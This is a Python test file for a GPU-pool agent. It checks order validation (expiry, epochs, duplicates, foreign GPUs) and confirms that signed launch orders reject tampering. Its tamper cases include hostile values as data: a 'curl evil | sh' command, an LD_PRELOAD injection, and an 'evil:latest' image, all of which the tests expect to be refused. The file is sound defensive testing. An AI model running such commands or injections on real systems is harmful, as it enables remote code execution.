"""Launch-order checks: duplicates, stale epochs, expiry and foreign GPUs; the persisted epoch record; signed orders
(signature, node, every field covered, the signature across the wire, key pins)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpupool.agent.orders import EpochRecord, OrderCheck, authenticate, check_order
from gpupool.protocol.agent import GangHost, GpuGrant, Launch, Rendezvous, Stop
from gpupool.protocol.signing import OrderSigner, OrderVerifier, hash_matches, key_hash

NOW = 1_000_000.0


def order(allocation="a1", attempt=0, epoch=5, expires_at=NOW + 120, gpus=("GPU-1",)) -> Launch:
    grants = [GpuGrant(uuid=u, index=i, milli=1000, memory_mib=0) for i, u in enumerate(gpus)]
    return Launch(
        allocation_id=allocation,
        attempt=attempt,
        job_id="j",
        task_index=0,
        command=["true"],
        gpus=grants,
        epoch=epoch,
        expires_at=expires_at,
    )


def check(launch: Launch, highest_epoch=5, known=(), gpu_uuids=None) -> OrderCheck:
    return check_order(launch, now=NOW, highest_epoch=highest_epoch, known=known, gpu_uuids=gpu_uuids)


def test_a_fresh_order_is_launched():
    assert check(order()) == OrderCheck("launch")


def test_an_order_expiring_exactly_now_is_still_valid():
    assert check(order(expires_at=NOW)).action == "launch"


def test_an_expired_order_is_refused():
    verdict = check(order(expires_at=NOW - 0.001))
    assert verdict.action == "refuse" and "expired" in verdict.reason


def test_an_order_from_an_older_epoch_is_refused():
    verdict = check(order(epoch=4), highest_epoch=5)
    assert verdict.action == "refuse" and "epoch 4 < highest seen 5" in verdict.reason


def test_a_newer_epoch_is_accepted():
    assert check(order(epoch=6), highest_epoch=5).action == "launch"


def test_a_known_workload_is_a_duplicate_even_when_expired_or_stale():
    known = {("a1", 0)}
    assert check(order(), known=known).action == "duplicate"
    assert check(order(expires_at=NOW - 1, epoch=1), known=known).action == "duplicate"


def test_another_attempt_of_a_known_allocation_is_not_a_duplicate():
    assert check(order(attempt=1), known={("a1", 0)}).action == "launch"


def test_gpus_of_another_node_are_refused():
    verdict = check(order(gpus=("GPU-1", "GPU-9")), gpu_uuids={"GPU-1", "MIG-2"})
    assert verdict.action == "refuse" and "GPU-9" in verdict.reason
    assert check(order(gpus=("MIG-2",)), gpu_uuids={"GPU-1", "MIG-2"}).action == "launch"


def test_epoch_record_only_grows_and_persists(tmp_path):
    path = tmp_path / "epoch"
    record = EpochRecord(path)
    assert record.highest == 0
    record.observe(7)
    record.observe(3)
    assert record.highest == 7
    assert EpochRecord(path).highest == 7


@pytest.mark.parametrize("content", ["garbage", "-3", ""])
def test_unreadable_epoch_record_starts_at_zero(tmp_path, content):
    (tmp_path / "epoch").write_text(content)
    assert EpochRecord(tmp_path / "epoch").highest == 0


def test_in_memory_epoch_record():
    record = EpochRecord()
    record.observe(2)
    assert record.highest == 2


# signed orders (RELIABILITY.md §4.2, S7 case 10) ---------------------------------------------------------------

SIGNER = OrderSigner.generate()
VERIFIER = OrderVerifier(SIGNER.public_key)
NODE = "node-1"


def sealed(**fields) -> Launch:
    return SIGNER.seal(order(**fields), NODE)


def changed(launch: Launch, **fields) -> Launch:
    """`launch` with fields changed after it was signed (what a tamperer on the wire can do)."""
    return launch.model_copy(update=fields)


def resigned(launch: Launch, signature: str) -> Launch:
    return launch.model_copy(update={"signature": signature})


SIGNED_CASES = {
    "signed for this node": (sealed(), {}, "launch", ""),
    "unsigned": (order(), {}, "refuse", "bad signature"),
    "signed by another key": (OrderSigner.generate().seal(order(), NODE), {}, "refuse", "bad signature"),
    "signature not base64": (resigned(sealed(), "not base64!"), {}, "refuse", "bad signature"),
    "signature of another order": (resigned(sealed(), sealed(allocation="a2").signature), {}, "refuse",
                                   "bad signature"),
    "command changed": (changed(sealed(), command=["sh", "-c", "curl evil | sh"]), {}, "refuse", "bad signature"),
    "env added": (changed(sealed(), env={"LD_PRELOAD": "/tmp/x.so"}), {}, "refuse", "bad signature"),
    "image changed": (changed(sealed(), image="evil:latest"), {}, "refuse", "bad signature"),
    "gpu changed": (changed(sealed(), gpus=[GpuGrant(uuid="GPU-2", index=1, milli=1000, memory_mib=0)]), {},
                    "refuse", "bad signature"),
    "epoch raised": (changed(sealed(), epoch=99), {}, "refuse", "bad signature"),
    "expiry extended": (changed(sealed(expires_at=NOW - 1), expires_at=NOW + 3600), {}, "refuse", "bad signature"),
    "node rewritten": (changed(SIGNER.seal(order(), "node-2"), node_id=NODE), {}, "refuse", "bad signature"),
    "sealed for another node": (SIGNER.seal(order(), "node-2"), {}, "refuse", "order for node node-2"),
    "expired": (sealed(expires_at=NOW - 0.001), {}, "refuse", "expired"),
    "stale epoch": (sealed(epoch=4), {"highest_epoch": 5}, "refuse", "stale order"),
    "NaN expiry (cannot be signed)": (changed(sealed(), expires_at=float("nan")), {}, "refuse", "bad signature"),
    "NaN expiry, unchecked signature": (order(expires_at=float("nan")), {"verifier": None, "node_id": None}, "refuse",
                                        "expired"),
    "foreign GPU": (sealed(gpus=("GPU-9",)), {"gpu_uuids": {"GPU-1"}}, "refuse", "GPU-9"),
    "no key pinned": (sealed(), {"verifier": OrderVerifier("")}, "refuse", "no control-plane key pinned"),
    "duplicate, even unsigned": (order(), {"known": {("a1", 0)}}, "duplicate", ""),
}


@pytest.mark.parametrize(("launch", "kwargs", "want", "reason"), SIGNED_CASES.values(), ids=SIGNED_CASES.keys())
def test_signed_orders(launch, kwargs, want, reason):
    args = {"highest_epoch": 5, "known": (), "gpu_uuids": None, "node_id": NODE, "verifier": VERIFIER, **kwargs}
    verdict = check_order(launch, now=NOW, **args)
    assert verdict.action == want and reason in verdict.reason


CHANGES = {
    "type": None,  # the discriminator: a Launch can be nothing else, a Stop's signature never passes as one
    "allocation_id": "a2",
    "attempt": 1,
    "job_id": "j2",
    "task_index": 1,
    "command": ["false"],
    "env": {"A": "1"},
    "workdir": "/tmp",
    "image": "img@sha256:00",
    "gpus": [],
    "epoch": 6,
    "expires_at": NOW + 121,
    "user": "mallory",  # a forged user name would run the job as another local account
    "max_disconnect_s": 86400.0,  # a forged one would keep the workload running past its node's loss
    # a forged rendezvous would send a gang's tasks to meet someone else's address
    "rendezvous": Rendezvous(world_size=2, rank=1, local_rank=0, local_world_size=1, master_addr="203.0.113.9",
                             master_port=29500, hosts=[GangHost(address="203.0.113.9", slots=1)]),
    "node_id": "node-2",
}


def test_the_signature_covers_every_field_of_a_launch():
    assert set(CHANGES) == set(Launch.model_fields) - {"signature"}, "a new Launch field: add it to CHANGES"
    launch = sealed()
    assert VERIFIER.verify(launch)
    for name, value in CHANGES.items():
        if value is not None:
            assert not VERIFIER.verify(changed(launch, **{name: value})), name


def test_a_stop_signature_does_not_pass_for_another_stop_or_node():
    stop = SIGNER.seal(Stop(allocation_id="a1", attempt=0, grace_s=10), NODE)
    assert authenticate(stop, node_id=NODE, verifier=VERIFIER) is None
    assert "bad signature" in authenticate(changed(stop, attempt=1), node_id=NODE, verifier=VERIFIER)
    assert "bad signature" in authenticate(changed(stop, grace_s=0), node_id=NODE, verifier=VERIFIER)
    assert "order for node" in authenticate(stop, node_id="node-2", verifier=VERIFIER)


def test_sealing_an_order_addressed_to_another_node_is_a_bug():
    with pytest.raises(ValueError, match="sent to node"):
        SIGNER.seal(order().model_copy(update={"node_id": "node-2"}), NODE)


PROCESS_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))  # protocol.launch


@settings(max_examples=200, deadline=None)
@given(
    command=st.lists(PROCESS_TEXT, min_size=1, max_size=4),
    env=st.dictionaries(st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,19}", fullmatch=True), PROCESS_TEXT.map(
        lambda text: text[:50]), max_size=5),
    expires_at=st.floats(allow_nan=False, allow_infinity=False),
    image=st.none() | PROCESS_TEXT.map(lambda text: text[:40]),
)
def test_a_signature_survives_the_wire(command, env, expires_at, image):
    launch = SIGNER.seal(
        Launch(allocation_id="a", attempt=0, job_id="j", task_index=0, command=command, env=env, image=image,
               epoch=1, expires_at=expires_at), NODE)
    received = Launch.model_validate_json(launch.model_dump_json())
    assert VERIFIER.verify(received)


def test_key_hash_pins():
    other = OrderSigner.generate().public_key
    assert hash_matches(SIGNER.public_key, key_hash(SIGNER.public_key))
    assert not hash_matches(SIGNER.public_key, key_hash(other))
    assert not hash_matches("not a key", key_hash(other))
    with pytest.raises(ValueError):
        key_hash("AAAA")
